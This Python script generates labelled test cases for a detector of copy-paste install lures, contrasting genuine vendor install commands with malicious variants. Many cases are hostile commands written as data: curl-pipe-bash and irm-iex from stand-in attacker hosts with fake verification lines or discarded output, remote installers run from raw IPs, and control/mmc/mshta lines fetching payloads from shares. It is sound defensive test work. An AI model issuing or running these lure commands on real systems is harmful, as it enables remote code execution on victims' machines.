"""Writes tests/data/cases/installers.jsonl: how developers really install software from a
project's own page, the lures that borrow each shape, and Windows settings pages in the Run box.

    python tests/data/cases/make_installers.py

Deterministic: the same file every run. Projects, vendors and hosts are made up (real-shaped);
lure hosts use names no one owns here. Each line is {id, text, expect, technique, platform,
source, target}; `technique` names the technique, `benign-<technique>` its developer side
(TECHNIQUES below). Techniques, each with both sides:

- `installer-to-temp`: an installer saved to %TEMP% and started (msiexec, Start-Process,
  curl.exe + start): `info` from the vendor's own page into a terminal; `malicious` from an
  unrelated page, from a raw IP, from a host that is not the page's, from a host imitating a
  known vendor, and in the Run box (over plain HTTP from the vendor's own page: `suspicious`); the same for `msiexec /i https://… /qn`
  (a silent remote install is what deployment pages write; bare it stays `malicious`);
- `archive-then-start`: a release zip downloaded, unpacked with Expand-Archive or tar and its
  program started: `info` from the project's own page; `malicious` (or at least `flagged`)
  from someone else's releases, an unrelated page, plain HTTP or a raw IP;
- `product-page`, `twin-domain`, `repo-site`: a company's docs page about a product whose own
  site serves the script (`vendor.com/docs/<product>/…` and `<product>.dev`), one name under two
  suffixes (`<name>.com` and `<name>.sh`), a project's site named like its repository
  (`widgetsmith.dev` and `github.com/acme-tools/widgetsmith`): `info`; a page naming a product
  while the script comes from a look-alike of a known vendor, over HTTP, from a longer name or
  from another repository: `flagged` or `malicious`;
- `stranger-page-lure-trait`: a terminal command from a page that shares nothing with its
  download host and has a lure trait (a script posing as a picture, a CMS upload folder, output thrown away, the
  screen cleared after, a hidden window, padding and a fake verification line): `malicious`;
  the same download with no trait from such a page: `suspicious` (a warning, not a block) when
  the page could be a developer's, `malicious` when its address is about something else, and
  official installers quoted by docs on another domain: `info`;
- `windows-page`: `control <keyword>`, `control /name Microsoft.X`, `control <applet>.cpl`,
  `mmc <snap-in>.msc`, `ms-settings:` in the Run box or address bar, even from a web page: not
  flagged; the same words with a path, a share, an address or extra words: `malicious` from a
  web page, `flagged` without one.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("installers.jsonl")
BENIGN = "none"
LURE = "T1204.004"
MASQUERADE = "T1036"

# Vendors that ship a Windows installer from their own download host:
# (site, download host, product file stem).
VENDORS = [
    ("brackenworks.com", "downloads.brackenworks.com", "BrackenAgent"),
    ("pellucid.io", "dl.pellucid.io", "PellucidSetup"),
    ("harbourline.net", "get.harbourline.net", "HarbourlineClient"),
    ("quokkasoft.dev", "releases.quokkasoft.dev", "QuokkaTray"),
    ("marrowgate.com", "cdn.marrowgate.com", "MarrowgateSync"),
    ("tessellate.app", "download.tessellate.app", "TessellateDesktop"),
    ("fernridge.co.uk", "files.fernridge.co.uk", "FernridgeVPN"),
    ("umberfield.org", "dist.umberfield.org", "UmberfieldCLI"),
    ("cobaltreach.com", "packages.cobaltreach.com", "CobaltReachSensor"),
    ("larchmont.ai", "static.larchmont.ai", "LarchmontAssistant"),
    ("vesperine.com", "downloads.vesperine.com", "VesperineBackup"),
    ("ashgrove.dev", "get.ashgrove.dev", "AshgroveShell"),
]
# GitHub projects that publish a Windows zip in their releases: (owner, repo, program).
RELEASE_PROJECTS = [
    ("thornbill-dev", "thornctl", "thornctl"),
    ("opalwave", "opal", "opal"),
    ("kittiwake-io", "kwcli", "kw"),
    ("slatefish", "slatefmt", "slatefmt"),
    ("wrenworks", "wren-agent", "wren-agent"),
    ("brambleops", "bramble", "bramble"),
    ("petrel-labs", "petrelsync", "petrelsync"),
    ("marigold-oss", "mgtool", "mgtool"),
    ("cormorant", "corm", "corm"),
    ("sorrel-hq", "sorrel", "sorrel"),
]
# A company's docs about a product served from the product's own domain:
# (company site, docs path, product domain).
PRODUCT_PAGES = [
    ("northwind-soft.com", "docs/driftwatch/install", "driftwatch.dev"),
    ("helix-cloud.com", "products/kelpdb/getting-started", "kelpdb.io"),
    ("acornlabs.io", "docs/burrow/quickstart", "burrow.sh"),
    ("stonebridge.com", "en/docs/tallyho/install.html", "tallyho.run"),
    ("meridianhq.com", "developers/quillpad/", "quillpad.app"),
    ("orchardsys.com", "docs/pipvine/cli", "pipvine.dev"),
    ("sundial-tech.com", "help/lumenctl/setup", "lumenctl.io"),
    ("greywater.io", "docs/tern/installation", "tern.build"),
    ("bluecanopy.com", "resources/hivemind/install", "hivemind.tools"),
    ("copperkite.com", "docs/ravelry-cli/install", "ravelry-cli.dev"),
]
# A project's own site named like its repository, not like the account that holds it:
# (site domain, forge, account, repository).
REPO_SITES = [
    ("widgetsmith.dev", "github", "acme-tools", "widgetsmith"),
    ("ohmyprompt.dev", "github", "jdoe", "oh-my-prompt"),
    ("tallyctl.io", "github", "northwind-labs", "tallyctl"),
    ("burrowfs.org", "gitlab", "fernhollow", "burrowfs"),
    ("lanternd.sh", "github", "lanternfish", "lanternd"),
    ("quartzrun.app", "gitlab", "quartzlake", "quartz_run"),
    ("mothball.dev", "github", "pebble-hq", "mothball"),
    ("skiffctl.io", "github", "blue-heron-io", "skiffctl"),
]
# One name under two suffixes: (page domain, script domain).
TWIN_DOMAINS = [
    ("wayfarer.com", "wayfarer.sh"),
    ("glimmer.dev", "glimmer.run"),
    ("nimbuskit.com", "nimbuskit.io"),
    ("tallow.io", "tallow.sh"),
    ("quarrel.com", "quarrel.dev"),
    ("pipistrel.app", "pipistrel.sh"),
    ("mandrake.io", "mandrake.dev"),
    ("halyard.com", "halyard.sh"),
]
# Pages that have nothing to do with the script they put on the clipboard.
STRANGER_PAGES = [
    "https://checkpoint.verify-session.top/human",
    "https://www.example-bakery.com/menu/",
    "https://meet.conference-room.click/join/8812",
    "https://news.example-daily.net/2025/11/article",
    "https://forum.example.org/t/help-with-setup/4411",
    "https://docs-preview.filehub-share.xyz/view?d=77",
]
# Of those, the pages whose address says nothing of software (no docs, forum, install...
# words): a download-and-run of a stranger's script from them is blocked (PG-PAGE-OFF-TOPIC).
OFF_TOPIC_PAGES = frozenset(
    {
        "https://checkpoint.verify-session.top/human",
        "https://www.example-bakery.com/menu/",
        "https://meet.conference-room.click/join/8812",
        "https://news.example-daily.net/2025/11/article",
        "https://docs-preview.filehub-share.xyz/view?d=77",
    }
)
# Hosts a lure serves its script from: (host, path).
STRANGER_HOSTS = [
    ("cdn.pixel-relay.top", "assets"),
    ("update.sync-node.xyz", "s"),
    ("static.mediaframe.click", "img"),
    ("files.clearpath-ops.site", "dl"),
    ("app.nightowl-stats.online", "pub"),
    ("edge.mosaic-cache.top", "c"),
]
# Official installers (trust list) as docs on another domain quote them: (page, text).
OFFICIAL_ELSEWHERE = [
    ("https://www.rust-lang.org/tools/install",
     "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal"),
    ("https://docs.brew.sh/Installation",
     '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"; brew --version'),
    ("https://brew.sh/", '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" && brew doctor'),
    ("https://docs.astral.sh/uv/getting-started/installation/",
     "curl -LsSf https://astral.sh/uv/0.5.9/install.sh | sh"),
    ("https://github.com/astral-sh/uv", 'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/0.5.9/install.ps1 | iex"'),
    ("https://docs.docker.com/engine/install/ubuntu/", "curl -fsSL https://get.docker.com | sudo sh -s -- --dry-run"),
    ("https://github.com/nvm-sh/nvm#installing-and-updating",
     "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash && nvm install --lts"),
    ("https://scoop.sh/", "Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression; scoop install git"),
    ("https://tailscale.com/kb/1031/install-linux", "curl -fsSL https://tailscale.com/install.sh | sh && sudo tailscale up"),
    ("https://ohmyz.sh/#install",
     'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)" "" --unattended --keep-zshrc'),
]  # fmt: skip
IMITATED = ["get-docker.top", "rustup-rs.site", "brew-sh.click", "astral-uv.top"]
MEDIA = ["logo.png", "banner.jpg", "intro.mp4", "invoice.pdf", "fonts/inter.woff2", "theme.css"]


def temp_installer_texts(url: str, stem: str) -> list[tuple[str, str]]:
    """(shape, text): the ways vendors' Windows docs save an installer to %TEMP% and start it."""
    msi, exe = f"{stem}.msi", f"{stem}.exe"
    return [
        ("msi", f"Invoke-WebRequest -Uri {url}/{msi} -OutFile $env:TEMP\\{msi}; "
                f"msiexec /i $env:TEMP\\{msi} /qn"),
        ("msi", f"iwr {url}/{msi} -OutFile \"$env:TEMP\\{msi}\"; Start-Process msiexec.exe "
                f"-ArgumentList '/i', \"$env:TEMP\\{msi}\", '/quiet' -Wait"),
        ("msi", f"curl.exe -L -o %TEMP%\\{msi} {url}/{msi} && msiexec /i %TEMP%\\{msi} /passive"),
        ("msi", f"Start-BitsTransfer -Source {url}/{msi} -Destination $env:TEMP\\{msi}; "
                f"msiexec /i $env:TEMP\\{msi}"),
        ("exe", f"(New-Object Net.WebClient).DownloadFile('{url}/{exe}', \"$env:TEMP\\{exe}\"); "
                f"Start-Process \"$env:TEMP\\{exe}\" -ArgumentList '/S' -Wait"),
        ("exe", f"Invoke-WebRequest {url}/{exe} -OutFile $env:TEMP\\{exe}; "
                f"Start-Process -FilePath $env:TEMP\\{exe} -Wait"),
    ]  # fmt: skip


def temp_installer_cases() -> list[dict[str, str]]:
    out = []
    for n, (site, host, stem) in enumerate(VENDORS, start=1):
        page = f"https://www.{site}/docs/install/windows"
        for k, (shape, text) in enumerate(temp_installer_texts(f"https://{host}/latest", stem), 1):
            tech = f"{shape}-to-temp"
            out.append(case(f"i-temp-own-{n}-{k}", text, "info", BENIGN, "windows", page,
                            "terminal"))  # fmt: skip
            # the lure side of the same shape, one variation per text
            lure = {
                1: (STRANGER_PAGES[n % len(STRANGER_PAGES)], text, "stranger-page"),
                2: (page, text.replace(f"https://{host}", f"http://{host}"), "plain-http"),
                3: (
                    page,
                    text.replace(f"https://{host}", f"https://198.51.100.{20 + n}"),
                    "raw-ip",
                ),
                4: (page, text.replace(host, f"{stem.lower()}-cdn.top"), "other-host"),
                5: (
                    f"https://{IMITATED[n % len(IMITATED)]}/windows",
                    text.replace(host, IMITATED[n % len(IMITATED)]),
                    "imitation",
                ),
                6: (page, text, "run-box"),
            }[k]
            source, lure_text, how = lure
            target = "run_dialog" if how == "run-box" else "terminal"
            # plain HTTP from the vendor's own page and domain: a weakness, warned about, not
            # a lure (issue 9 point 3: own-page installers are never blocked)
            expect = "suspicious" if how == "plain-http" else "malicious"
            out.append(case(f"i-temp-{how}-{n}-{k}", lure_text, expect,
                            MASQUERADE if how in {"imitation", "other-host"} else LURE,
                            "windows", source, target))  # fmt: skip
            if k == 1:
                out.append(case(f"i-temp-bare-{n}", text, "malicious", tech, "windows", "",
                                "unknown"))  # fmt: skip
        # msiexec fetching the package itself, silently, as deployment pages write it
        flags = ["/qn", "/quiet /norestart", "/passive", "/qb!"][n % 4]
        remote = f"msiexec /i https://{host}/latest/{stem}.msi {flags}"
        out += [
            case(f"i-msiexec-url-own-{n}", remote, "info", BENIGN, "windows", page, "terminal"),
            case(f"i-msiexec-url-bare-{n}", remote, "malicious", "msiexec-url", "windows", "",
                 "unknown"),
            case(f"i-msiexec-url-stranger-page-{n}", remote, "malicious", LURE, "windows",
                 STRANGER_PAGES[n % len(STRANGER_PAGES)], "terminal"),
            case(f"i-msiexec-url-plain-http-{n}", remote.replace("https://", "http://"),
                 "suspicious", LURE, "windows", page, "terminal"),
            case(f"i-msiexec-url-run-box-{n}", remote, "malicious", LURE, "windows", page,
                 "run_dialog"),
        ]  # fmt: skip
    return out


def archive_texts(zip_url: str, prog: str) -> list[str]:
    return [
        f"Invoke-WebRequest {zip_url} -OutFile {prog}.zip; Expand-Archive {prog}.zip "
        f"-DestinationPath $env:LOCALAPPDATA\\{prog}; & $env:LOCALAPPDATA\\{prog}\\{prog}.exe --version",
        f"iwr {zip_url} -OutFile $env:TEMP\\{prog}.zip; Expand-Archive $env:TEMP\\{prog}.zip "
        f"-DestinationPath $env:TEMP\\{prog} -Force; Start-Process $env:TEMP\\{prog}\\{prog}.exe",
        f"curl.exe -LO {zip_url} && tar -xf {prog}_windows_amd64.zip && .\\{prog}.exe init",
        f"Invoke-WebRequest -Uri {zip_url} -OutFile \"$env:USERPROFILE\\Downloads\\{prog}.zip\"; "
        f"Expand-Archive \"$env:USERPROFILE\\Downloads\\{prog}.zip\" -DestinationPath "
        f"\"$env:USERPROFILE\\bin\"; & \"$env:USERPROFILE\\bin\\{prog}.exe\" --help",
    ]  # fmt: skip


def archive_cases() -> list[dict[str, str]]:
    out = []
    for n, (owner, repo, prog) in enumerate(RELEASE_PROJECTS, start=1):
        tag = f"v{1 + n % 3}.{n}.0"
        zip_url = (
            f"https://github.com/{owner}/{repo}/releases/download/{tag}/{prog}_windows_amd64.zip"
        )
        pages = [
            f"https://github.com/{owner}/{repo}/releases",
            f"https://github.com/{owner}/{repo}",
            f"https://github.com/{owner}/{repo}/blob/main/docs/install.md",
            f"https://{owner}.github.io/{repo}/install/",
        ]
        for k, text in enumerate(archive_texts(zip_url, prog), start=1):
            out.append(case(f"i-archive-own-{n}-{k}", text, "info", BENIGN, "windows",
                            pages[k - 1], "terminal"))  # fmt: skip
        text = archive_texts(zip_url, prog)[1]
        other = text.replace(f"github.com/{owner}/", f"github.com/{owner}-builds/")
        out += [
            case(f"i-archive-other-owner-{n}", other, "malicious", MASQUERADE, "windows",
                 pages[0], "terminal"),
            case(f"i-archive-stranger-page-{n}", text, "malicious", LURE, "windows",
                 STRANGER_PAGES[n % len(STRANGER_PAGES)], "terminal"),
            case(f"i-archive-plain-http-{n}",
                 text.replace("https://github.com", f"http://{prog}-dl.example-mirror.top"),
                 "malicious", LURE, "windows", pages[0], "terminal"),
            case(f"i-archive-raw-ip-{n}",
                 text.replace("https://github.com", f"https://203.0.113.{30 + n}"),
                 "malicious", LURE, "windows", pages[0], "terminal"),
            case(f"i-archive-run-box-{n}", text, "malicious", LURE, "windows", pages[0],
                 "run_dialog"),
        ]  # fmt: skip
    return out


def product_page_cases() -> list[dict[str, str]]:
    out = []
    for n, (company, path, product) in enumerate(PRODUCT_PAGES, start=1):
        page = f"https://{company}/{path}"
        name = product.split(".")[0]
        texts = [
            (f"curl -fsSL https://{product}/install.sh | sh", "linux"),
            (f"curl -fsSL https://get.{product} | bash", "macos"),
            (f"irm https://{product}/install.ps1 | iex", "windows"),
        ]
        for k, (text, platform) in enumerate(texts, start=1):
            out.append(case(f"i-product-own-{n}-{k}", text, "info", BENIGN, platform, page,
                            "terminal"))  # fmt: skip
        unrelated_page = f"https://{company}/docs/other-tool/install"
        out += [
            # the page names a product, the script comes from a longer name that merely contains it
            case(f"i-product-longer-name-{n}",
                 f"curl -fsSL https://{name}-mirror.top/install.sh | sh",
                 "flagged", MASQUERADE, "linux", page, "terminal"),
            case(f"i-product-plain-http-{n}", f"curl -fsSL http://{product}/install.sh | sh",
                 "flagged", LURE, "linux", page, "terminal"),
            # a page about some other product vouches for nothing
            case(f"i-product-not-named-{n}", texts[0][0], "suspicious", LURE, "linux",
                 unrelated_page, "terminal"),
            case(f"i-product-run-box-{n}", texts[2][0], "malicious", LURE, "windows", page,
                 "run_dialog"),
        ]  # fmt: skip
    for n, (page_domain, script_domain) in enumerate(TWIN_DOMAINS, start=1):
        page = f"https://docs.{page_domain}/install"
        out += [
            case(f"i-twin-own-{n}", f"curl -fsSL https://{script_domain}/install.sh | sh",
                 "info", BENIGN, "linux", page, "terminal"),
            case(f"i-twin-own-ps-{n}", f"irm https://{script_domain}/install.ps1 | iex",
                 "info", BENIGN, "windows", f"https://{page_domain}/", "terminal"),
            case(f"i-twin-lure-tail-{n}",
                 f"curl -fsSL https://{script_domain}/install.sh | sh  # ✅ I am not a robot: "
                 f"verification {7100 + n}", "malicious", LURE, "linux", page, "terminal"),
        ]  # fmt: skip
    for n, (site, forge, owner, repo) in enumerate(REPO_SITES, start=1):
        page = f"https://{site}/docs/install"
        if forge == "github":
            scripts = [
                f"https://raw.githubusercontent.com/{owner}/{repo}/main/install.sh",
                f"https://github.com/{owner}/{repo}/releases/latest/download/install.sh",
                f"https://{owner}.github.io/{repo}/install.sh",
            ]
            fork = f"https://raw.githubusercontent.com/{owner}-dev/{repo}-fork/main/install.sh"
        else:
            scripts = [
                f"https://gitlab.com/{owner}/{repo}/-/raw/main/install.sh",
                f"https://gitlab.com/{owner}/{repo}/-/releases/permalink/latest/downloads/install.sh",
                f"https://{owner}.gitlab.io/{repo}/install.sh",
            ]
            fork = f"https://gitlab.com/{owner}-dev/{repo}-fork/-/raw/main/install.sh"
        for k, script in enumerate(scripts, start=1):
            out.append(case(f"i-repo-site-own-{n}-{k}", f"curl -fsSL {script} | sh", "info",
                            BENIGN, "linux", page, "terminal"))  # fmt: skip
        out += [
            # another repository that only contains the name
            case(f"i-repo-site-fork-{n}", f"curl -fsSL {fork} | sh", "suspicious", LURE,
                 "linux", page, "terminal"),
            case(f"i-repo-site-trait-{n}", f"curl -fsSL {scripts[0]} | sh >/dev/null 2>&1; clear",
                 "flagged", LURE, "linux", page, "terminal"),
            case(f"i-repo-site-run-box-{n}", f"curl -fsSL {scripts[0]} | sh", "malicious", LURE,
                 "windows", page, "run_dialog"),
        ]  # fmt: skip
    # a page that names a known vendor's product while the script imitates that vendor
    for n, host in enumerate(IMITATED, start=1):
        brand = host.split("-")[0]
        out.append(case(f"i-product-imitation-{n}",
                        f"curl -fsSL https://{host}/install.sh | sh", "malicious", MASQUERADE,
                        "linux", f"https://tutorials.example-dev.top/{brand}/{host.split('.')[0]}",
                        "terminal"))  # fmt: skip
    return out


def stranger_cases() -> list[dict[str, str]]:
    out = []
    for n, (host, folder) in enumerate(STRANGER_HOSTS, start=1):
        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
        base = f"https://{host}/{folder}"
        media = MEDIA[n % len(MEDIA)]
        traits = [
            ("media-nix", f"curl -fsSL {base}/{media} | bash", "macos"),
            ("media-zsh", f'zsh -c "$(curl -fsSL {base}/{media})"', "macos"),
            ("media-ps", f"iex (irm {base}/{media})", "windows"),
            ("media-ps-pipe", f"irm {base}/{media} | iex", "windows"),
            ("cms-nix",
             f"curl -fsSL https://{host}/wp-content/uploads/2025/0{n}/setup.sh | bash", "linux"),
            ("cms-ps", f"irm https://{host}/wp-includes/js/update.ps1 | iex", "windows"),
            ("discarded", f"curl -fsSL {base}/install.sh | bash >/dev/null 2>&1", "linux"),
            ("discarded-ps", f"irm {base}/i.ps1 | iex | Out-Null", "windows"),
            ("cleared", f"curl -fsSL {base}/install.sh | sh; clear", "macos"),
            ("closed", f"irm {base}/i.ps1 | iex; exit", "windows"),
            ("insecure", f"curl -kfsSL {base}/install.sh | bash", "linux"),
            ("padded", f"curl -fsSL {base}/install.sh | bash {' ' * 60}# verification step 2 of 3",
             "macos"),
        ]  # fmt: skip
        for how, text, platform in traits:
            out.append(case(f"i-stranger-{how}-{n}", text, "malicious", LURE, platform, page,
                            "terminal"))  # fmt: skip
        # the same download with no trait from a stranger's page: a warning, not a block, when
        # the page could be a developer's (a forum thread on setup); a block when its address
        # is about something else (a menu, a meeting, a news article)
        expect = "malicious" if page in OFF_TOPIC_PAGES else "suspicious"
        for k, (text, platform) in enumerate(
            [
                (f"curl -fsSL {base}/install.sh | bash", "linux"),
                (f"irm {base}/install.ps1 | iex", "windows"),
            ],
            start=1,
        ):
            out.append(case(f"i-stranger-no-trait-{n}-{k}", text, expect, LURE, platform,
                            page, "terminal"))  # fmt: skip
        # a developer's own page using those same scripts is cleared, even with a long line
        own = f"https://docs.{host.split('.', 1)[1]}/install"
        out.append(case(f"i-stranger-own-page-{n}", f"curl -fsSL {base}/install.sh | bash",
                        "info", BENIGN, "linux", own, "terminal"))  # fmt: skip
    for n, (site, host, _stem) in enumerate(VENDORS[:6], start=1):
        stranger, _folder = STRANGER_HOSTS[n - 1]
        page = f"https://www.{site}/docs/install"
        # the page's own script chained with a stranger's, whose output is thrown away
        out.append(case(f"i-stranger-mixed-chain-{n}",
                        f"curl -fsSL https://{host}/install.sh | sh && "
                        f"curl -fsSL https://{stranger}/t.sh | bash >/dev/null 2>&1",
                        "malicious", LURE, "linux", page, "terminal"))  # fmt: skip
    for n, (page, text) in enumerate(OFFICIAL_ELSEWHERE, start=1):
        if n <= 4 and "| sh" in text:
            # an official script with its output thrown away: what is thrown away is the real
            # installer's progress (a cron job, a provisioning step runs it so), so it is the
            # known installer it is (PG-RUN-OUTPUT-DISCARDED is waivable; make_b16benign.py)
            out.append(case(f"i-official-quiet-{n}", f"{text} >/dev/null 2>&1", "info",
                            BENIGN, "linux", STRANGER_PAGES[n % len(STRANGER_PAGES)],
                            "terminal"))  # fmt: skip
        platform = "windows" if "iex" in text.lower() else "linux"
        out.append(case(f"i-official-elsewhere-{n}", text, "info", BENIGN, platform, page,
                        "terminal"))  # fmt: skip
    return out


WINDOWS_PAGES = [
    "control printers",
    "control admintools",
    "control userpasswords2",
    "control netconnections",
    "control schedtasks",
    "control folders",
    "control /name Microsoft.DeviceManager",
    "control /name Microsoft.ProgramsAndFeatures",
    "control /name Microsoft.NetworkAndSharingCenter",
    "control /name Microsoft.System /page pageAdvancedSettings",
    "control appwiz.cpl",
    "control sysdm.cpl,,3",
    "control.exe ncpa.cpl",
    "control timedate.cpl",
    "mmc devmgmt.msc",
    "mmc compmgmt.msc",
    "mmc lusrmgr.msc",
    "mmc taskschd.msc",
    "inetcpl.cpl",
    "ms-settings:windowsupdate",
    "ms-settings:network-proxy",
    "Control Printers",
]
WINDOWS_PAGES_ABUSED = [
    r"control \\files.example-share.top@SSL\DavWWWRoot\cpl\display.cpl",
    r"control \\198.51.100.44\pub\printers.cpl",
    r"control C:\Users\Public\Downloads\printers.cpl",
    r"control %TEMP%\sysdm.cpl",
    r"control.exe %APPDATA%\Microsoft\ncpa.cpl",
    "control https://files.example-share.top/appwiz.cpl",
    "control printers & mshta https://cdn.example-share.top/p.hta",
    "control printers && curl -o %TEMP%\\x.cmd https://cdn.example-share.top/x && %TEMP%\\x.cmd",
    "control unknownapplet.cpl",
    "mmc C:\\Users\\Public\\tools.msc",
    r"mmc \\files.example-share.top\pub\console.msc",
    "control /name Microsoft.DeviceManager calc",
]
HELP_PAGES = [
    "https://intranet.example-corp.com/it/howto/printers",
    "https://support.example-vendor.com/kb/40021",
    "https://www.example-techtips.com/windows/control-panel-shortcuts/",
]


def windows_page_cases() -> list[dict[str, str]]:
    out = []
    for n, text in enumerate(WINDOWS_PAGES, start=1):
        for target in ("run_dialog", "explorer_bar"):
            out.append(case(f"i-winpage-{target}-{n}", text, "not_flagged", BENIGN, "windows",
                            HELP_PAGES[n % len(HELP_PAGES)], target))  # fmt: skip
    for n, text in enumerate(WINDOWS_PAGES_ABUSED, start=1):
        out += [
            case(f"i-winpage-abused-web-{n}", text, "malicious", LURE, "windows",
                 HELP_PAGES[n % len(HELP_PAGES)], "run_dialog"),
            case(f"i-winpage-abused-typed-{n}", text, "flagged", LURE, "windows", "",
                 "run_dialog"),
        ]  # fmt: skip
    return out


# Technique names for the bench's per-technique table, by id prefix (longest first): the
# developer side is `benign-<technique>`, the lure side `<technique>` or a named variant.
TECHNIQUES = [
    ("i-temp-own-", "benign-installer-to-temp"),
    ("i-temp-", "installer-to-temp"),
    ("i-msiexec-url-own-", "benign-msiexec-url"),
    ("i-msiexec-url-", "msiexec-url"),
    ("i-archive-own-", "benign-archive-then-start"),
    ("i-archive-", "archive-then-start"),
    ("i-product-own-", "benign-product-page"),
    ("i-product-", "product-page"),
    ("i-twin-own", "benign-twin-domain"),
    ("i-repo-site-own-", "benign-repo-site"),
    ("i-repo-site-", "repo-site"),
    ("i-twin-", "twin-domain"),
    ("i-stranger-own-page-", "benign-stranger-host-own-page"),
    ("i-stranger-no-trait-", "stranger-page-no-trait"),
    ("i-stranger-", "stranger-page-lure-trait"),
    ("i-official-elsewhere-", "benign-official-elsewhere"),
    ("i-official-quiet-", "benign-official-quiet"),
    ("i-winpage-abused-", "windows-page-abused"),
    ("i-winpage-", "benign-windows-page"),
]


def named(c: dict[str, str]) -> dict[str, str]:
    technique = next(t for prefix, t in TECHNIQUES if c["id"].startswith(prefix))
    return {**c, "technique": technique}


def build() -> list[dict[str, str]]:
    cases = [
        named(c)
        for c in temp_installer_cases()
        + archive_cases()
        + product_page_cases()
        + stranger_cases()
        + windows_page_cases()
    ]
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
